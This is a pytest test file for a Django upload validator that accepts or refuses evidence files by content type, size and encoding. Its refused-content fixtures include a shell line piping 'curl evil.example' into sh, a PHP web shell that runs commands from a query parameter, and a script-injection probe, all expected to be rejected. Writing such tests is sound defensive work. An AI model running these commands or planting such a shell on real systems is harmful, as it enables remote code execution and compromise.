"""Upload checks for evidence files. Every sample is built here, byte by byte; no database."""

from __future__ import annotations

import hashlib
import io

import magic
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from evidence.validation import (
    ALLOWED_TYPES,
    DOCX,
    MB,
    ODS,
    ODT,
    XLSX,
    CheckedFile,
    UploadRejected,
    check_upload,
)
from soc2app.errors import DomainError
from tests.evidence.samples import (
    CONTENT_TYPES,
    ELF,
    GIF,
    JAVA_CLASS,
    JPEG,
    OLE,
    PE,
    WEBP,
    _docx,
    _odf,
    _pdf,
    _png,
    _rejected,
    _upload,
    _xlsx,
    _zip,
)

# --- accepted types ---------------------------------------------------------------------------

ACCEPTED = [
    ("pdf", _pdf(), "policy.pdf", "application/pdf"),
    ("png", _png(), "screenshot.png", "image/png"),
    ("jpeg", JPEG, "photo.jpg", "image/jpeg"),
    ("gif", GIF, "badge.gif", "image/gif"),
    ("webp", WEBP, "screen.webp", "image/webp"),
    ("text", b"MFA enforced for all admins.\n", "notes.txt", "text/plain"),
    ("utf8-bom-text", "\ufeffR\u00e9sum\u00e9 \u2713\n".encode(), "notes.txt", "text/plain"),
    ("csv", b"user,mfa\nalice,yes\nbob,no\n", "users.csv", "text/csv"),
    ("json", b'{"controls": [1, 2, 3]}', "export.json", "application/json"),
    ("xlsx", _xlsx(), "access-review.xlsx", XLSX),
    ("xlsx-reordered", _xlsx(content_types_first=False), "access-review.xlsx", XLSX),
    ("docx", _docx(), "policy.docx", DOCX),
    ("ods", _odf(ODS), "inventory.ods", ODS),
    ("odt", _odf(ODT), "policy.odt", ODT),
    (
        "zip",
        _zip([("logs/a.log", b"ok\n"), ("logs/b.log", b"ok\n")]),
        "logs.zip",
        "application/zip",
    ),
]


@pytest.mark.parametrize(
    ("data", "name", "content_type"), [a[1:] for a in ACCEPTED], ids=[a[0] for a in ACCEPTED]
)
def test_allowed_types_are_accepted_with_size_and_sha256(data, name, content_type):
    checked = _upload(data, name)

    assert checked == CheckedFile(
        safe_name=name,
        content_type=content_type,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )
    assert content_type in ALLOWED_TYPES


def test_this_libmagic_misses_xlsx_when_content_types_is_not_first():
    # Why the module looks inside archives itself instead of trusting libmagic.
    assert magic.from_buffer(_xlsx(content_types_first=True), mime=True) == XLSX
    assert magic.from_buffer(_xlsx(content_types_first=False), mime=True) == "application/zip"


def test_legacy_excel_is_accepted_when_libmagic_says_so(monkeypatch):
    # Building a valid CFB workbook by hand is out of proportion; fake libmagic's verdict.
    monkeypatch.setattr(magic, "from_buffer", lambda head, mime: "application/vnd.ms-excel")

    assert _upload(OLE, "old.xls").content_type == "application/vnd.ms-excel"


def test_other_ole_documents_are_refused():
    error = _rejected(OLE, "old.xls", "type_not_allowed")
    assert "application/x-ole-storage" in error.message


def test_django_uploaded_file_works_and_is_rewound():
    upload = SimpleUploadedFile("review.xlsx", _xlsx(content_types_first=False))

    checked = check_upload(upload, name=upload.name)

    assert checked.content_type == XLSX
    assert upload.tell() == 0
    assert upload.read(2) == b"PK"


def test_reads_in_chunks_not_all_at_once():
    data = _pdf() + b"%" + b"x" * (3 * MB)
    reads: list[int] = []

    class Recording(io.BytesIO):
        def read(self, size: int | None = -1, /) -> bytes:
            reads.append(-1 if size is None else size)
            return super().read(size)

    check_upload(Recording(data), name="big.pdf")

    assert reads
    assert all(0 < size <= 64 * 1024 for size in reads)


@pytest.mark.parametrize(
    "data",
    [_pdf(), b"<html></html>", b"", b"x" * 200],
    ids=["accepted", "refused", "empty", "too-large"],
)
def test_file_position_is_zero_afterwards(data):
    fileobj = io.BytesIO(data)
    fileobj.seek(len(data) // 2)

    try:
        check_upload(fileobj, name="a.pdf", max_bytes=100)
    except UploadRejected:
        pass

    assert fileobj.tell() == 0


def test_rejection_belongs_to_the_domain_error_family():
    error = _rejected(b"", "a.pdf", "empty")

    assert isinstance(error, DomainError)
    assert error.status == 400
    assert error.message == (
        "The file is empty: check that you chose the right file and upload it again."
    )


# --- size -----------------------------------------------------------------------------------


def test_max_bytes_argument_names_both_sizes():
    with pytest.raises(UploadRejected) as caught:
        _upload(b"a" * (3 * MB // 2), "big.txt", max_bytes=MB)

    assert caught.value.code == "too_large"
    assert caught.value.message == "This file is 1.5 MB; the limit is 1 MB."


def test_limit_comes_from_settings(settings):
    settings.EVIDENCE_MAX_UPLOAD_BYTES = 1000

    assert _upload(b"a" * 1000, "ok.txt").size == 1000
    error = _rejected(b"a" * 2000, "big.txt", "too_large")
    assert error.message == "This file is 2 KB; the limit is 1000 bytes."


def test_default_limit_is_25_mb(settings):
    if hasattr(settings, "EVIDENCE_MAX_UPLOAD_BYTES"):
        del settings.EVIDENCE_MAX_UPLOAD_BYTES

    class Huge(io.BytesIO):
        """Claims 26 MB at its end without holding it: refused before anything is read."""

        def seek(self, offset: int, whence: int = 0, /) -> int:
            return super().seek(offset, 0) if whence == 0 else 26 * MB

        def tell(self) -> int:
            return 26 * MB

    with pytest.raises(UploadRejected) as caught:
        check_upload(Huge(b""), name="huge.pdf")
    assert caught.value.message == "This file is 26 MB; the limit is 25 MB."


def test_limit_holds_when_the_size_cannot_be_known_in_advance():
    class ForwardOnly(io.BytesIO):
        def seek(self, offset: int, whence: int = 0, /) -> int:
            if whence != 0:
                raise io.UnsupportedOperation("seek")
            return super().seek(offset)

    with pytest.raises(UploadRejected) as caught:
        check_upload(ForwardOnly(b"a" * 5000), name="big.txt", max_bytes=1000)

    assert caught.value.code == "too_large"
    assert "larger than the 1000 bytes limit" in caught.value.message


def test_empty_file():
    assert _rejected(b"", "empty.pdf", "empty").message == (
        "The file is empty: check that you chose the right file and upload it again."
    )


# --- refused content, whatever the name says ---------------------------------------------------

REFUSED = [
    (
        "html-as-pdf",
        b"<!DOCTYPE html><html><body>Hi</body></html>",
        "report.pdf",
        "html_not_allowed",
    ),
    ("html-no-doctype", b"\n  <HTML><body>x</body></HTML>", "report.txt", "html_not_allowed"),
    ("script-in-text", b"Notes\n<script>alert(1)</script>\n", "notes.txt", "html_not_allowed"),
    (
        "svg-as-png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "logo.png",
        "svg_not_allowed",
    ),
    (
        "svg-with-prolog",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
        "a.png",
        "svg_not_allowed",
    ),
    ("xml", b'<?xml version="1.0"?><audit><item/></audit>', "audit.txt", "xml_not_allowed"),
    ("shell-as-txt", b"#!/bin/sh\ncurl evil.example | sh\n", "notes.txt", "executable_not_allowed"),
    (
        "python-shebang",
        b"#!/usr/bin/env python3\nprint(1)\n",
        "notes.txt",
        "executable_not_allowed",
    ),
    ("php", b"<?php system($_GET['c']); ?>\n", "notes.txt", "executable_not_allowed"),
    ("elf-as-txt", ELF, "notes.txt", "executable_not_allowed"),
    ("pe-as-pdf", PE, "report.pdf", "executable_not_allowed"),
    ("java-class", JAVA_CLASS, "report.pdf", "executable_not_allowed"),
    (
        "jar",
        _zip([("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"), ("A.class", JAVA_CLASS)]),
        "a.zip",
        "executable_not_allowed",
    ),
    (
        "pptx",
        _zip([("[Content_Types].xml", CONTENT_TYPES), ("ppt/presentation.xml", "<p/>")]),
        "deck.pptx",
        "type_not_allowed",
    ),
    (
        "odp",
        _odf("application/vnd.oasis.opendocument.presentation"),
        "deck.odp",
        "type_not_allowed",
    ),
    ("rtf", b"{\\rtf1\\ansi hello}", "notes.rtf", "type_not_allowed"),
    ("binary-zeros", b"\x00" * 100, "data.pdf", "type_not_allowed"),
    ("text-with-nul", b"abc\x00def\n", "notes.txt", "type_not_allowed"),
    ("empty-zip", b"PK\x05\x06" + b"\x00" * 18, "empty.zip", "empty"),
]


@pytest.mark.parametrize(
    ("data", "name", "code"), [r[1:] for r in REFUSED], ids=[r[0] for r in REFUSED]
)
def test_refused_content(data, name, code):
    error = _rejected(data, name, code)

    assert error.message.endswith(".")


def test_html_message_says_what_to_do():
    error = _rejected(b"<html><body>x</body></html>", "a.pdf", "html_not_allowed")

    assert (
        error.message
        == "HTML files are not accepted as evidence: upload a PDF or a screenshot instead."
    )


def test_csv_starting_with_mz_is_text_not_an_executable():
    assert _upload(b"MZ,Warehouse\n1,2\n", "sites.csv").content_type == "text/csv"


def test_source_code_guesses_are_stored_as_plain_text():
    data = b"#include <stdio.h>\nint main(void) { return 0; }\n"
    assert magic.from_buffer(data, mime=True) == "text/x-c"

    assert _upload(data, "snippet.txt").content_type == "text/plain"


# --- text: encoding, JSON, CSV -----------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        "Caf\u00e9 r\u00e9sum\u00e9\n".encode("latin-1"),
        "hello\n".encode("utf-16"),
        b"caf\xc3",  # a multi-byte character cut off at the very end
        b"a,b\n" * 5000 + b"\x00\n",  # text to libmagic (first 16 KB), NUL further on
    ],
    ids=["latin-1", "utf-16", "truncated-utf8", "nul-after-head"],
)
def test_text_that_is_not_utf8_is_refused(data):
    error = _rejected(data, "notes.csv", "not_utf8")

    assert "UTF-8" in error.message


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b'{"a": 1}', "export.txt"),
        (b"[1, 2, 3]\n", "export.csv"),
        ('\ufeff{"k": "v"}'.encode(), "export.json"),
        (b'  \n{"nested": {"list": [true, null]}}', "export"),
    ],
    ids=["named-txt", "named-csv", "bom", "leading-space"],
)
def test_json_detected_from_content(data, name):
    assert _upload(data, name).content_type == "application/json"


@pytest.mark.parametrize(
    "data",
    [b"{ meeting notes }\n", b"[draft] access review\n", b"[" * 100_000 + b"]" * 100_000],
    ids=["braces", "brackets", "too-deep"],
)
def test_text_that_only_looks_like_json_is_plain_text(data):
    assert _upload(data, "notes.json").content_type == "text/plain"


@pytest.mark.parametrize(
    ("name", "content_type"),
    [
        ("users.csv", "text/csv"),
        ("USERS.CSV", "text/csv"),
        ("users.txt", "text/plain"),
        ("users", "text/plain"),
    ],
)
def test_csv_decided_by_name_for_text(name, content_type):
    assert _upload(b"a,b\n1,2\n", name).content_type == content_type


def test_excel_csv_utf8_with_bom_is_csv():
    data = "\ufeffname,team\nZo\u00eb,Ops\n".encode()

    assert _upload(data, "team.csv").content_type == "text/csv"
